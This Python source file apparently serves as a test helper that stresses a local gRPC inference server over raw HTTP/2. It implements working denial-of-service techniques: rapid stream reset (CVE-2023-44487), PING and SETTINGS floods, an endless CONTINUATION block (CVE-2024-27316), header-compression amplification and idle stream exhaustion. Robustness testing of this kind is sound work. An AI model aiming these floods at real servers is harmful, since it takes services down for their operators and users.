"""An HTTP/2 client that breaks the manners of the protocol, on a raw socket."""

from __future__ import annotations

import contextlib
import socket
import threading

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

METHOD = "/inference.GRPCInferenceService/ModelInfer"
MESSAGE = b"\x00\x00\x00\x00\x00"
"""An empty gRPC message."""


class RudeClient:
    """One connection that sends whatever it is told, and throws away what comes."""

    def __init__(self, port: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=60)
        self.protocol = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.protocol.initiate_connection()
        self.socket.sendall(self.protocol.data_to_send())
        self.streams = 0
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        with contextlib.suppress(OSError):
            while self.socket.recv(1 << 16):
                pass

    def headers(self, *more: tuple[str, str]) -> bytes:
        """The header block of a call, encoded without a memory of earlier ones."""
        pairs = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "x"), ("te", "trailers"),
                 ("content-type", "application/grpc"), *more]  # fmt: skip
        return self.protocol.encoder.encode(pairs)

    def next_stream(self) -> int:
        self.streams += 1
        return 2 * self.streams - 1

    def send(self, *frames: Frame) -> None:
        self.socket.sendall(b"".join(frame.serialize() for frame in frames))

    def reset(self, count: int) -> None:
        """So many calls that are begun and reset at once (CVE-2023-44487)."""
        frames: list[Frame] = []
        for _ in range(count):
            number = self.next_stream()
            begun = HeadersFrame(number, data=self.headers(), flags=["END_HEADERS"])
            frames += [begun, RstStreamFrame(number, error_code=8)]
        self.send(*frames)

    def ping(self, count: int) -> None:
        self.send(*[PingFrame(0, opaque_data=b"12345678")] * count)

    def settings(self, count: int) -> None:
        self.send(*[SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})] * count)

    def continuations(self, count: int) -> None:
        """A header block that does not end (CVE-2024-27316 and its kin)."""
        if not self.streams:
            self.send(HeadersFrame(self.next_stream(), data=self.headers()))
        block = self.protocol.encoder.encode([(f"x-{number}", "a" * 100) for number in range(100)])
        self.send(*[ContinuationFrame(1, data=block)] * count)

    def big_headers(self, count: int) -> None:
        """Calls whose few bytes stand for many headers: the peer's table holds a long one, which each repeats."""
        for _ in range(count):
            block = self.headers() + self.protocol.encoder.encode([("x-long", "a" * 3000)]) * 100
            self.send(HeadersFrame(self.next_stream(), data=block[:16_000], flags=["END_HEADERS", "END_STREAM"]))

    def open_streams(self, count: int) -> None:
        """Calls that are begun and never go on."""
        for _ in range(count):
            self.send(HeadersFrame(self.next_stream(), data=self.headers(), flags=["END_HEADERS"]))

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
